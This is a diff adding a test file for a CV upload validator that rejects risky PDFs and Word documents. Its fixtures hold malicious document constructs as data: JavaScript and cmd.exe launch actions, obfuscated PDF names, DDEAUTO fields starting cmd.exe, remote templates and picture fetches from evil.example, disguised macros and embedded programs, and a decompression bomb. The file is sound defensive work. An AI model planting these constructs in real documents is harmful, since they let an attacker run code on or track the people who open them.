@@ -1,0 +1,123 @@
+import { deflateRawSync, deflateSync } from 'node:zlib'
+import { expect, test } from 'vitest'
+import { docx } from '../testing.ts'
+import { cvType } from './cv-type.ts'
+
+/** A PDF whose catalog stands in an object stream, as writers of today make it. */
+function pdf(
+  objects: string,
+  { filter = '/Filter /FlateDecode', pack = (bytes: Buffer): Buffer => deflateSync(bytes), trailer = '' } = {},
+): Buffer {
+  const packed = pack(Buffer.from(objects))
+  const head = `%PDF-1.7\n1 0 obj\n<< /Type /ObjStm /N 1 /First 4 ${filter} /Length ${packed.length} >>\nstream\n`
+  return Buffer.concat([
+    Buffer.from(head),
+    packed,
+    Buffer.from(`\nendstream\nendobj\n${trailer}\nstartxref\n0\n%%EOF\n`),
+  ])
+}
+const OPENS = '2 0 << /Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>'
+
+test('a PDF is looked into where its objects are compressed', async () => {
+  expect(await cvType(pdf('2 0 << /Type /Catalog /Pages 3 0 R /OpenAction [3 0 R /Fit] >>'))).toBe('pdf')
+  expect(await cvType(pdf(OPENS))).toBeNull()
+  expect(await cvType(pdf(OPENS.replace('/JavaScript /JS', '/#4aava#53cript /J#53')))).toBeNull()
+  expect(await cvType(pdf('2 0 << /S /Launch /F (cmd.exe) >>'))).toBeNull()
+  expect(await cvType(pdf(OPENS, { filter: '', pack: bytes => bytes }))).toBeNull()
+  // The word that ends a stream may stand in its bytes.
+  expect(await cvType(pdf(`(endstream) ${OPENS}`, { pack: bytes => deflateSync(bytes, { level: 0 }) }))).toBeNull()
+})
+
+test('a stream of objects is one by its keys, whatever its type says', async () => {
+  const hidden = Buffer.from(pdf(OPENS).toString('latin1').replace('/Type /ObjStm', '/Type /Foo'), 'latin1')
+  expect(await cvType(hidden)).toBeNull()
+})
+
+test('a PDF may have links, and none that is followed when it is opened', async () => {
+  const link = '<< /Type /Annot /A << /S /URI /URI (https://example.com/) >> >>'
+  expect(await cvType(pdf(`2 0 ${link}`))).toBe('pdf')
+  const opens = '4 0 obj\n<< /Type /Catalog /OpenAction << /S /URI /URI (https://evil.example/) >> >>\nendobj\n'
+  expect(await cvType(pdf('2 0 << >>', { trailer: opens }))).toBeNull()
+  const refers =
+    '4 0 obj\n<< /Type /Catalog /OpenAction 5 0 R >>\nendobj\n5 0 obj\n<< /S /URI /URI (https://e/) >>\nendobj\n'
+  expect(await cvType(pdf('2 0 << >>', { trailer: refers }))).toBeNull()
+  // The action is an object of a stream: number 2, at its beginning.
+  const packed = '4 0 obj\n<< /Type /Page /AA << /O 2 0 R >> >>\nendobj\n'
+  expect(await cvType(pdf('2 0 << /S /URI /URI (https://e/) >>', { trailer: packed }))).toBeNull()
+  const shows =
+    '4 0 obj\n<< /Type /Catalog /OpenAction [3 0 R /Fit] >>\nendobj\n3 0 obj\n<< /Type /Page /Parent 9 0 R >>\nendobj\n'
+  expect(await cvType(pdf(`2 0 ${link}`, { trailer: shows }))).toBe('pdf')
+})
+
+test('what of a PDF cannot be looked into is refused', async () => {
+  const plain = '2 0 << /Type /Catalog >>'
+  expect(await cvType(pdf(plain, { filter: '/Filter [/ASCIIHexDecode /FlateDecode]' }))).toBeNull()
+  expect(await cvType(pdf(plain, { trailer: 'trailer << /Encrypt 5 0 R >>' }))).toBeNull()
+  expect(await cvType(pdf(plain, { pack: () => Buffer.from('no deflate') }))).toBeNull()
+  expect(await cvType(pdf(' '.repeat(30_000_000)))).toBeNull()
+})
+
+const TYPES =
+  '<?xml version="1.0" encoding="UTF-8"?><Types><Default Extension="xml" ContentType="application/xml"/></Types>'
+const related = (type: string, target: string, mode = 'External') =>
+  `<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="${mode}"/></Relationships>`
+const word = (parts: Record<string, string | Buffer> = {}, types: string | Buffer = TYPES) =>
+  docx({ '[Content_Types].xml': types, 'word/document.xml': '<w:document/>', ...parts })
+const RELS = 'word/_rels/settings.xml.rels'
+
+test('a Word document may have pictures, fonts, links, and the template of its writer’s own machine', async () => {
+  expect(await cvType(word())).toBe('docx')
+  expect(await cvType(word({ 'word/media/me.jpeg': 'x', 'word/fonts/f1.odttf': 'x', 'docProps/': '' }))).toBe('docx')
+  expect(await cvType(word({ [RELS]: related('hyperlink', 'https://example.com/') }))).toBe('docx')
+  expect(await cvType(word({ [RELS]: related('attachedTemplate', 'file:///C:\\Users\\a\\CV.dotx') }))).toBe('docx')
+})
+
+const field = (...pieces: string[]) =>
+  `<w:document><w:r><w:fldChar w:fldCharType="begin"/></w:r>${pieces
+    .map(piece => `<w:r><w:instrText>${piece}</w:instrText></w:r>`)
+    .join('')}<w:r><w:fldChar w:fldCharType="end"/></w:r></w:document>`
+test('a Word document may have page numbers and links as fields', async () => {
+  expect(await cvType(word({ 'word/document.xml': field(' PAGE ') }))).toBe('docx')
+  expect(await cvType(word({ 'word/document.xml': field('HYPERLINK "https://example.com/added"') }))).toBe('docx')
+})
+
+const MACRO = TYPES.replace(
+  '</Types>',
+  '<Default Extension="png" ContentType="application/vnd.ms-office.vbaProject"/></Types>',
+)
+test.each<[string, Buffer]>([
+  ['macros by another name', word({ 'word/macros.png': 'x' }, MACRO)],
+  [
+    'macros, their type written with numbers',
+    word({ 'word/m.png': 'x' }, MACRO.replace('vbaProject', '&#x76;ba&#80;roject')),
+  ],
+  [
+    'a macro document',
+    word({}, TYPES.replace('application/xml', 'application/vnd.ms-word.document.macroEnabled.main+xml')),
+  ],
+  ['types in another encoding', word({}, Buffer.from(`\uFEFF${MACRO}`, 'utf16le'))],
+  ['types with names of their own', word({}, `<!DOCTYPE x [<!ENTITY a "vba">]>${TYPES}`)],
+  ['a part that is no text, picture or font', word({ 'word/macros.bin': 'x' })],
+  ['an OLE object', word({ 'word/embeddings/oleObject1.bin': 'x' })],
+  ['a spreadsheet inside', word({ 'word/embeddings/Sheet1.xlsx': 'x' })],
+  ['a program', word({ 'word/media/run.hta': 'x' })],
+  ['a shortcut', word({ 'word/media/run.lnk': 'x' })],
+  ['a Java archive', word({ 'META-INF/MANIFEST.MF': 'x', 'A.class': 'x' })],
+  ['an object by its relationship', word({ [RELS]: related('oleObject', 'media/a.png', 'Internal') })],
+  ['a template from elsewhere', word({ [RELS]: related('attachedTemplate', 'https://evil.example/t.dotm') })],
+  ['a template from another machine', word({ [RELS]: related('attachedTemplate', 'file://evil.example/t.dotm') })],
+  ['a template in single quotes', word({ [RELS]: related('attachedTemplate', 'https://e/').replaceAll('"', "'") })],
+  ['a field that starts a program', word({ 'word/document.xml': field(' DDEAUTO c:\\\\cmd.exe "/k calc" ') })],
+  ['such a field in pieces', word({ 'word/document.xml': field(' DD', 'EAUTO cmd ') })],
+  ['such a field in short', word({ 'word/footer1.xml': '<w:p><w:fldSimple w:instr="dde cmd"/></w:p>' })],
+  ['a field that fetches a picture', word({ 'word/document.xml': field('INCLUDEPICTURE "https://evil.example/"') })],
+  ['a picture that is fetched', word({ [RELS]: related('image', 'https://evil.example/seen.png') })],
+])('a Word document with %s is refused', async (_, bytes) => {
+  expect(await cvType(bytes)).toBeNull()
+})
+
+test('a Word document that unpacks to very much is refused', async () => {
+  const bomb = Buffer.alloc(20_000_000, 32)
+  expect(deflateRawSync(bomb).length).toBeLessThan(30_000)
+  expect(await cvType(word({ [RELS]: bomb }))).toBeNull()
+})
